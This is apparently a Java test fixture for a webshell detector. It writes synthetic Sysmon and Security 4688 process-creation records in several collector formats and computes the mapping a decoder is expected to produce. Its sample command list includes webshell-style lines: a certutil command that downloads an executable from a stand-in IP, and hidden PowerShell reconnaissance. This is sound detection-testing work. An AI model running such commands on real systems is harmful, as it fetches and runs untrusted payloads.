package dev.webshell.detector.event;

import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;

/**
 * Test-side writer of Windows process-creation records in the shapes real collectors produce,
 * written from the published schemas (Sysmon's event 1 manifest, Microsoft's 4688 documentation,
 * Winlogbeat's exported fields and its sysmon/security modules, ECS) and from collector outputs
 * (NXLog im_msvistalog through Logstash as in Security-Datasets, Azure Monitor / Sentinel exports,
 * evtx_dump). It shares no code with the production decoders: the expected mapping of each record
 * is computed here from the {@link Truth} it was written from, following SPEC 6.4.
 */
final class WindowsRecords {
  private WindowsRecords() {}

  /** What happened on the host: the process creation a record describes. */
  record Truth(
      boolean security,
      String host,
      long utcMillis,
      String image,
      String commandLine,
      String domain,
      String user,
      long pid,
      long parentPid,
      String guid,
      String parentGuid,
      String parentImage,
      String parentCommandLine,
      Long recordId) {}

  /** The shapes, each as a collector writes it. */
  enum Shape {
    /** NXLog im_msvistalog → Logstash (Security-Datasets "mordor" files). */
    NXLOG,
    /** Azure Monitor Agent / Sentinel export: Provider, Computer, EventData as rendered XML. */
    SENTINEL,
    /** Sentinel WindowsEvent table: EventData as an object. */
    EVENTDATA_OBJECT,
    /** evtx_dump JSON: Event.System, Event.EventData. */
    EVTX,
    /** Winlogbeat 7/8 without modules: winlog.*. */
    WINLOGBEAT,
    /** Winlogbeat 8 / Elastic Agent after the sysmon or security ingest pipeline. */
    ECS_PIPELINE,
    /** Winlogbeat 7's early sysmon processor: process.args only, event.category a string. */
    ECS_OLD_SCRIPT,
    /** Elastic Defend: ECS only, no winlog, no provider. */
    ECS_DEFEND
  }

  static final Shape[] SYSMON_SHAPES = Shape.values();

  static final Shape[] SECURITY_SHAPES = {
    Shape.NXLOG,
    Shape.SENTINEL,
    Shape.EVENTDATA_OBJECT,
    Shape.EVTX,
    Shape.WINLOGBEAT,
    Shape.ECS_PIPELINE
  };

  private static final DateTimeFormatter SYSMON_TIME =
      DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss.SSS").withZone(ZoneOffset.UTC);
  private static final DateTimeFormatter LOCAL_TIME =
      DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss").withZone(ZoneOffset.ofHours(-5));

  // ---- JSON writing, with duplicate keys and any order

  /** A JSON object as a list of members, written in order; a name may repeat. */
  static final class Obj {
    final List<String[]> members = new ArrayList<>();

    Obj s(String name, String value) {
      members.add(new String[] {name, value == null ? "null" : quote(value)});
      return this;
    }

    Obj n(String name, long value) {
      members.add(new String[] {name, Long.toString(value)});
      return this;
    }

    Obj raw(String name, String json) {
      members.add(new String[] {name, json});
      return this;
    }

    Obj o(String name, Obj value) {
      return raw(name, value.toString());
    }

    Obj shuffle(Random r) {
      Collections.shuffle(members, r);
      return this;
    }

    @Override
    public String toString() {
      StringBuilder b = new StringBuilder("{");
      for (int i = 0; i < members.size(); i++) {
        if (i > 0) {
          b.append(',');
        }
        b.append(quote(members.get(i)[0])).append(':').append(members.get(i)[1]);
      }
      return b.append('}').toString();
    }
  }

  static String quote(String s) {
    StringBuilder b = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      switch (c) {
        case '"' -> b.append("\\\"");
        case '\\' -> b.append("\\\\");
        case '\n' -> b.append("\\n");
        case '\r' -> b.append("\\r");
        case '\t' -> b.append("\\t");
        default -> {
          if (c < 0x20) {
            b.append(String.format("\\u%04x", (int) c));
          } else {
            b.append(c);
          }
        }
      }
    }
    return b.append('"').toString();
  }

  static String array(String... values) {
    StringBuilder b = new StringBuilder("[");
    for (int i = 0; i < values.length; i++) {
      b.append(i > 0 ? "," : "").append(quote(values[i]));
    }
    return b.append(']').toString();
  }

  // ---- the event data of each provider, as the manifests name it

  private static String user(Truth t) {
    return t.domain() == null ? t.user() : t.domain() + "\\" + t.user();
  }

  private static String hex(long v) {
    return "0x" + Long.toHexString(v);
  }

  /** Sysmon event 1's EventData (schema 4.x order), numbers as the collector writes them. */
  static void sysmonData(Obj d, Truth t, boolean numbersAsStrings, Random r) {
    d.s("RuleName", "-");
    d.s("UtcTime", SYSMON_TIME.format(Instant.ofEpochMilli(t.utcMillis())));
    if (t.guid() != null) {
      d.s("ProcessGuid", t.guid());
    }
    number(d, "ProcessId", t.pid(), numbersAsStrings);
    d.s("Image", t.image());
    d.s("FileVersion", "10.0.17763.1 (WinBuild.160101.0800)");
    d.s("Description", "Windows Command Processor");
    d.s("Product", "Microsoft® Windows® Operating System");
    d.s("Company", "Microsoft Corporation");
    d.s("OriginalFileName", "Cmd.Exe");
    if (t.commandLine() != null) {
      d.s("CommandLine", t.commandLine());
    }
    d.s("CurrentDirectory", "c:\\windows\\system32\\inetsrv\\");
    if (t.user() != null) {
      d.s("User", user(t));
    }
    d.s("LogonGuid", "{3d64e3c6-6a41-603f-e703-000000000000}");
    d.s("LogonId", "0x3e7");
    d.s("TerminalSessionId", "0");
    d.s("IntegrityLevel", "System");
    d.s(
        "Hashes",
        "SHA1=99AE9C73E9BEE6F9C76D6F4093A9882DF06832CF,IMPHASH=272245E2988E1E430500B852C4FB5E18");
    if (t.parentGuid() != null) {
      d.s("ParentProcessGuid", t.parentGuid());
    }
    number(d, "ParentProcessId", t.parentPid(), numbersAsStrings);
    if (t.parentImage() != null) {
      d.s("ParentImage", t.parentImage());
    }
    if (t.parentCommandLine() != null) {
      d.s("ParentCommandLine", t.parentCommandLine());
    }
    if (r.nextBoolean()) {
      d.s("ParentUser", "NT AUTHORITY\\SYSTEM");
    }
  }

  /** Security 4688 version 2's EventData: hexadecimal process ids, always strings. */
  static void securityData(Obj d, Truth t) {
    d.s("SubjectUserSid", "S-1-5-18");
    d.s("SubjectUserName", t.user() == null ? "-" : t.user());
    d.s("SubjectDomainName", t.domain() == null ? "-" : t.domain());
    d.s("SubjectLogonId", "0x3e7");
    d.s("NewProcessId", hex(t.pid()));
    d.s("NewProcessName", t.image());
    d.s("TokenElevationType", "%%1936");
    d.s("ProcessId", hex(t.parentPid()));
    if (t.commandLine() != null) {
      d.s("CommandLine", t.commandLine());
    }
    d.s("TargetUserSid", "S-1-0-0");
    d.s("TargetUserName", "-");
    d.s("TargetDomainName", "-");
    d.s("TargetLogonId", "0x0");
    if (t.parentImage() != null) {
      d.s("ParentProcessName", t.parentImage());
    }
    d.s("MandatoryLabel", "S-1-16-16384");
  }

  private static void number(Obj d, String name, long v, boolean asString) {
    if (asString) {
      d.s(name, Long.toString(v));
    } else {
      d.n(name, v);
    }
  }

  private static String provider(Truth t) {
    return t.security() ? "Microsoft-Windows-Security-Auditing" : "Microsoft-Windows-Sysmon";
  }

  private static int eventId(Truth t) {
    return t.security() ? 4688 : 1;
  }

  private static String channel(Truth t) {
    return t.security() ? "Security" : "Microsoft-Windows-Sysmon/Operational";
  }

  private static String iso(long millis) {
    return Instant.ofEpochMilli(millis).toString();
  }

  /**
   * One record of {@code t} in {@code shape}. For 4688 (no UtcTime) every shape carries the true
   * time in {@code @timestamp} (Logstash, Winlogbeat) or the System time (evtx).
   */
  static String render(Truth t, Shape shape, Random r) {
    boolean strings = r.nextBoolean();
    Obj o = new Obj();
    switch (shape) {
      case NXLOG -> {
        o.s("EventTime", LOCAL_TIME.format(Instant.ofEpochMilli(t.utcMillis())));
        o.s("Hostname", t.host());
        o.n("Keywords", Long.MIN_VALUE);
        o.s("EventType", "INFO");
        o.n("SeverityValue", 2);
        number(o, "EventID", eventId(t), strings && r.nextBoolean());
        o.s("SourceName", provider(t));
        o.s("ProviderGuid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
        o.n("Version", 5);
        if (t.recordId() != null) {
          o.n("RecordNumber", t.recordId());
        }
        o.n("ProcessID", 3284); // the collector's view: the Sysmon service, not the new process
        o.n("ThreadID", 4364);
        o.s("Channel", channel(t));
        o.s("Domain", "NT AUTHORITY");
        o.s("AccountName", "SYSTEM");
        o.s("UserID", "S-1-5-18");
        o.s("Message", "Process Create:\r\nRuleName: -\r\nImage: C:\\decoy\\notepad.exe");
        o.s("@timestamp", iso(t.security() ? t.utcMillis() : t.utcMillis() + 2_800));
        o.s("@version", "1");
        o.s("host", "wec.internal.cloudapp.net"); // the forwarder, a string
        o.raw("tags", array("mordorDataset"));
        if (t.security()) {
          securityData(o, t);
        } else {
          sysmonData(o, t, strings, r);
        }
        o.shuffle(r);
      }
      case SENTINEL -> {
        o.s("EventSourceName", provider(t));
        o.s("Provider", provider(t));
        o.s("Channel", channel(t));
        o.s("Computer", t.host());
        // Sentinel's TimeCreated: local time labelled Z; never the event time
        o.s("TimeCreated", iso(t.utcMillis() - 4 * 3_600_000L));
        o.s("TimeGenerated", iso(t.utcMillis() - 12 * 3_600_000L));
        if (t.recordId() != null) {
          o.s("EventRecordID", Long.toString(t.recordId()));
        }
        o.n("EventID", eventId(t));
        o.s("Message", "A new process has been created.");
        o.s(
            "EventData",
            "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">"
                + "<Data Name=\"Image\">C:\\decoy.exe</Data></EventData>");
        if (t.security()) {
          o.s("@timestamp", iso(t.utcMillis()));
          securityData(o, t);
        } else {
          sysmonData(o, t, true, r);
        }
      }
      case EVENTDATA_OBJECT -> {
        o.s("TimeGenerated", iso(t.utcMillis() + 1_000));
        o.s("Computer", t.host());
        o.n("EventID", eventId(t));
        o.s("Provider", provider(t));
        o.s("Channel", channel(t));
        o.s("Type", "WindowsEvent");
        Obj d = new Obj();
        if (t.security()) {
          o.s("@timestamp", iso(t.utcMillis()));
          securityData(d, t);
        } else {
          sysmonData(d, t, strings, r);
        }
        o.o("EventData", d);
      }
      case EVTX -> {
        Obj system =
            new Obj()
                .o(
                    "Provider",
                    new Obj()
                        .o(
                            "#attributes",
                            new Obj()
                                .s("Name", provider(t))
                                .s("Guid", "5770385F-C22A-43E0-BF4C-06F5698FFBD9")))
                .n("EventID", eventId(t))
                .n("Version", 5)
                .o(
                    "TimeCreated",
                    new Obj().o("#attributes", new Obj().s("SystemTime", iso(t.utcMillis()))))
                .n("EventRecordID", t.recordId() == null ? 1 : t.recordId())
                .s("Channel", channel(t))
                .s("Computer", t.host());
        Obj d = new Obj();
        if (t.security()) {
          securityData(d, t);
        } else {
          sysmonData(d, t, strings, r);
        }
        o.o(
            "Event",
            new Obj()
                .raw(
                    "#attributes",
                    "{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"}")
                .o("System", system)
                .o("EventData", d));
      }
      case WINLOGBEAT -> {
        o.s("@timestamp", iso(t.utcMillis() + (t.security() ? 0 : 4)));
        o.o(
            "event",
            new Obj()
                .s("code", Integer.toString(eventId(t)))
                .s("kind", "event")
                .s("provider", provider(t))
                .s("created", iso(t.utcMillis() + 60_000)));
        o.o("host", new Obj().s("name", "collector-" + t.host()));
        o.o("agent", new Obj().s("type", "winlogbeat").s("version", "8.11.0"));
        Obj d = new Obj();
        if (t.security()) {
          securityData(d, t);
        } else {
          sysmonData(d, t, true, r);
        }
        Obj winlog =
            new Obj()
                .s("channel", channel(t))
                .s("computer_name", t.host())
                .o("event_data", d)
                .o("process", new Obj().n("pid", 7144).o("thread", new Obj().n("id", 6876)))
                .s("provider_name", provider(t))
                .o("user", new Obj().s("domain", "NT AUTHORITY").s("name", "SYSTEM"));
        if (t.recordId() != null) {
          winlog.n("record_id", t.recordId());
        }
        if (r.nextBoolean()) {
          winlog.s("event_id", Integer.toString(eventId(t)));
        } else {
          winlog.n("event_id", eventId(t));
        }
        o.o("winlog", winlog.shuffle(r));
        o.s("message", "Process Create:\nImage: C:\\decoy\\notepad.exe");
        o.shuffle(r);
      }
      case ECS_PIPELINE, ECS_OLD_SCRIPT, ECS_DEFEND -> ecs(o, t, shape, r);
    }
    return o.toString();
  }

  private static void ecs(Obj o, Truth t, Shape shape, Random r) {
    boolean old = shape == Shape.ECS_OLD_SCRIPT;
    boolean defend = shape == Shape.ECS_DEFEND;
    o.s("@timestamp", iso(t.utcMillis()));
    Obj event = new Obj().s("kind", "event");
    if (old) {
      event.s("category", "process"); // event.type went to a key named "event.type:"
    } else if (r.nextBoolean()) {
      event.raw("category", array("process")).raw("type", array("start", "process_start"));
    } else {
      event.s("category", "process").s("type", "start");
    }
    if (!defend) {
      event
          .n("code", eventId(t))
          .s("provider", provider(t))
          .s("module", t.security() ? "security" : "sysmon");
    } else {
      event.s("dataset", "endpoint.events.process").s("module", "endpoint").s("action", "start");
    }
    o.o("event", event.shuffle(r));
    o.o("host", new Obj().s("name", t.host()).s("hostname", "decoy").raw("ip", array("10.0.0.5")));
    Obj p = new Obj();
    if (t.image() != null) {
      p.s("executable", t.image());
      p.s("name", last(t.image()));
    }
    if (t.commandLine() != null) {
      if (!old) {
        p.s("command_line", t.commandLine());
      }
      p.raw("args", array(t.commandLine().split(" ")));
    }
    p.n("pid", t.pid());
    if (t.guid() != null && !t.security()) {
      p.s("entity_id", t.guid());
    }
    Obj parent = new Obj();
    if (t.parentImage() != null) {
      parent.s("executable", t.parentImage()).s("name", last(t.parentImage()));
    }
    if (t.parentCommandLine() != null) {
      if (!old) {
        parent.s("command_line", t.parentCommandLine());
      }
      parent.raw("args", array(t.parentCommandLine().split(" ")));
    }
    parent.n("pid", t.parentPid());
    if (t.parentGuid() != null && !t.security()) {
      parent.s("entity_id", t.parentGuid());
    }
    p.o("parent", parent.shuffle(r));
    p.o("pe", new Obj().s("original_file_name", "Cmd.Exe"));
    o.o("process", p.shuffle(r));
    if (t.user() != null) {
      o.o(
          "user",
          t.domain() == null
              ? new Obj().s("name", t.user())
              : new Obj().s("domain", t.domain()).s("name", t.user()));
    }
    if (!defend) {
      Obj winlog =
          new Obj()
              .s("channel", channel(t))
              .s("computer_name", t.host())
              .s("provider_name", provider(t))
              .n("event_id", eventId(t))
              .o("event_data", new Obj().s("IntegrityLevel", "System").s("RuleName", "-"));
      if (t.recordId() != null) {
        winlog.n("record_id", t.recordId());
      }
      o.o("winlog", winlog);
    }
    o.shuffle(r);
  }

  static String last(String path) {
    if (path == null) {
      return null;
    }
    String[] parts = path.split("[\\\\/]", -1);
    return parts[parts.length - 1];
  }

  // ---- the expected mapping, from the truth (SPEC 6.4)

  /** The projection a decoder must produce, column by column. */
  record Expected(
      long timestampMicros,
      String deviceId,
      String deviceName,
      String fileName,
      String processCommandLine,
      String initiatingProcessFileName,
      String initiatingProcessParentFileName,
      String initiatingProcessCommandLine,
      String initiatingProcessFolderPath,
      String folderPath,
      Long reportId,
      Long processId,
      String accountName,
      String lineageKind,
      String processKey,
      String parentProcessKey) {

    static Expected of(ProcessEvent e) {
      ProcessLineage l = e.lineage();
      return new Expected(
          e.timestampMicros(),
          e.deviceId(),
          e.deviceName(),
          e.fileName(),
          e.processCommandLine(),
          e.initiatingProcessFileName(),
          e.initiatingProcessParentFileName(),
          e.initiatingProcessCommandLine(),
          e.initiatingProcessFolderPath(),
          e.folderPath(),
          e.reportId(),
          e.processId(),
          e.accountName(),
          l == null ? null : l.kind().name(),
          l == null ? null : l.processKey(),
          l == null ? null : l.parentProcessKey());
    }
  }

  static Expected expected(Truth t, Shape shape) {
    boolean ecs =
        shape == Shape.ECS_PIPELINE || shape == Shape.ECS_OLD_SCRIPT || shape == Shape.ECS_DEFEND;
    String host = t.host().toLowerCase(java.util.Locale.ROOT); // test hosts are ASCII
    String cmd = t.commandLine();
    String parentCmd = t.security() && !ecs ? null : t.parentCommandLine();
    if (shape == Shape.ECS_OLD_SCRIPT) {
      cmd = cmd == null ? null : String.join(" ", cmd.split(" "));
      parentCmd = parentCmd == null ? null : String.join(" ", parentCmd.split(" "));
    }
    String account = t.security() && !ecs && t.user() == null ? "-" : t.user();
    boolean guids = !t.security() && (t.guid() != null || t.parentGuid() != null);
    String kind = guids ? "GUID" : "PID";
    String key = guids ? guidKey(t.guid()) : Long.toString(t.pid());
    String parentKey = guids ? guidKey(t.parentGuid()) : Long.toString(t.parentPid());
    Long reportId =
        shape == Shape.ECS_DEFEND || (shape == Shape.EVENTDATA_OBJECT) ? null : t.recordId();
    if (shape == Shape.EVTX && reportId == null) {
      reportId = 1L;
    }
    return new Expected(
        t.utcMillis() * 1000,
        host,
        host,
        last(t.image()),
        cmd,
        last(t.parentImage()),
        null,
        parentCmd,
        t.parentImage(),
        t.image(),
        reportId,
        t.pid(),
        account,
        kind,
        key,
        parentKey);
  }

  static String guidKey(String g) {
    if (g == null) {
      return null;
    }
    String s = g;
    if (s.startsWith("{") && s.endsWith("}")) {
      s = s.substring(1, s.length() - 1);
    }
    return s.matches("[0-9A-Fa-f-]+") ? s.toLowerCase(java.util.Locale.ROOT) : s;
  }

  // ---- random truths

  private static final String[] HOSTS = {
    "EXCH01.contoso.local", "web01", "WEB-02.Corp.Example", "iis7", "TOMCAT-A.fabrikam.com"
  };
  private static final String[] IMAGES = {
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "c:/windows/system32/whoami.exe",
    "C:\\Windows\\SysWOW64\\CMD.EXE",
    "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe",
    "\\\\?\\C:\\Windows\\system32\\conhost.exe",
    "C:\\Windows\\System32\\PING.EXE"
  };
  private static final String[] PARENTS = {
    "c:\\windows\\system32\\inetsrv\\w3wp.exe",
    "C:\\Windows\\System32\\inetsrv\\W3WP.EXE",
    "C:/Program Files/Apache Group/Apache2/bin/httpd.exe",
    "C:\\Program Files\\Java\\jre1.8.0_301\\bin\\java.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\services.exe",
    "-"
  };
  private static final String[] COMMANDS = {
    "cmd /c whoami",
    "cmd.exe /c \"ipconfig /all\"",
    "powershell.exe -nop -w hidden -c whoami",
    "ping -n 1 10.0.0.1",
    "cmd /c certutil -urlcache -f http://203.0.113.7/a %TEMP%\\a.exe",
    "C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    ""
  };

  static Truth randomTruth(Random r, boolean security) {
    String guid = r.nextInt(10) == 0 ? null : randomGuid(r);
    String parentGuid = r.nextInt(10) == 0 ? null : randomGuid(r);
    return new Truth(
        security,
        HOSTS[r.nextInt(HOSTS.length)],
        1_500_000_000_000L + (long) (r.nextDouble() * 300_000_000_000L),
        IMAGES[r.nextInt(IMAGES.length)],
        r.nextInt(8) == 0 ? null : COMMANDS[r.nextInt(COMMANDS.length)],
        r.nextInt(5) == 0 ? null : (r.nextBoolean() ? "IIS APPPOOL" : "CONTOSO"),
        r.nextInt(8) == 0 ? null : (r.nextBoolean() ? "DefaultAppPool" : "svc_web"),
        4 + r.nextInt(100_000),
        4 + r.nextInt(100_000),
        guid,
        parentGuid,
        r.nextInt(10) == 0 ? null : PARENTS[r.nextInt(PARENTS.length)],
        r.nextInt(6) == 0
            ? null
            : "\"" + PARENTS[r.nextInt(PARENTS.length)] + "\" -ap DefaultAppPool",
        r.nextInt(4) == 0 ? null : (long) r.nextInt(10_000_000));
  }

  static String randomGuid(Random r) {
    String g =
        String.format(
            "%08x-%04x-%04x-%04x-%012x",
            r.nextInt(),
            r.nextInt(0x10000),
            r.nextInt(0x10000),
            r.nextInt(0x10000),
            r.nextLong() & 0xffffffffffffL);
    return r.nextBoolean() ? "{" + g.toUpperCase(java.util.Locale.ROOT) + "}" : "{" + g + "}";
  }
}
